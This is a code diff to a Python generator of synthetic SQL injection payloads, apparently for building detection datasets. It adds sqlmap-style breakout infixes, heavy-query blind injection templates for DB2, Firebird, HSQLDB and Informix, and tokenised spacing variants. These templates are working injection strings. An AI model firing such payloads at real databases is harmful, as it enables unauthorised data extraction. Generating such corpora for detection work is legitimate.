@@ -247,6 +247,8 @@ class _Ctx:
         if like:
             base = rng.choice(["%", "a%", "%test", f"{rand_word(rng, 2, 5)}%"])
         self.prefix = base + self.quote + ")" * self.parens
+        if (self.quote or self.parens) and rng.random() < 0.05:  # sqlmap's "as alias where" infix
+            self.prefix += f" as {rand_word(rng, 4, 4)} where {(k := rng.randint(1000, 9999))}={k}"
 
     def sep(self, rng: random.Random) -> str:
         """Space between the breakout and the injected clause (sometimes none after a quote)."""
@@ -424,6 +426,11 @@ def _error(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, s
 
 
 _BLIND = (
+    "and {n}=(select count(*) from sysibm.systables as t1,sysibm.systables as t2,sysibm.systables as t3)",
+    "and {n}=(select count(*) from rdb$fields as t1,rdb$types as t2,rdb$collations as t3)",
+    "and {n}=(select count(*) from domain.domains as t1,domain.columns as t2,domain.tables as t3)",
+    "and {n}=(select count(*) from information_schema.system_users as t1,information_schema.system_users as t2)",
+    "and {n} in (select ({n}) from sysmaster:sysdual)", "and {n}=(select {n} from rdb$database)",
     "and {n}={n}", "and {n}={n2}", "and 1=2", "and 1=1", "and substring(({sub}),{i},1)='{c}'",
     "and ascii(substring(({sub}),{i},1))>{code}", "and ord(mid(({sub}),{i},1))={code}",
     "and length(({sub}))>{i}", "and (select count(*) from {tbl})>{n}",
@@ -657,7 +664,10 @@ def sqli_payload(rng: random.Random) -> tuple[str, str]:
     builder = weighted(rng, _TECHNIQUES)
     ctx = _Ctx(rng, dbms, numeric_bias=0.45 if builder in (_union, _time) else 0.3)
     payload, key = builder(rng, ctx, _FILLERS[dbms])
-    return _case(rng, payload), key
+    payload = _case(rng, payload)
+    if rng.random() < 0.04:  # tokenised spacing, as in some public SQLi corpora: "sleep ( 5 )"
+        payload = re.sub(r"\s*(<>|!=|>=|<=|[(),=<>])\s*", r" \1 ", payload).strip()
+    return payload, key
 
 
 def generate_sqli(rng: random.Random, n: int) -> list[Sample]:
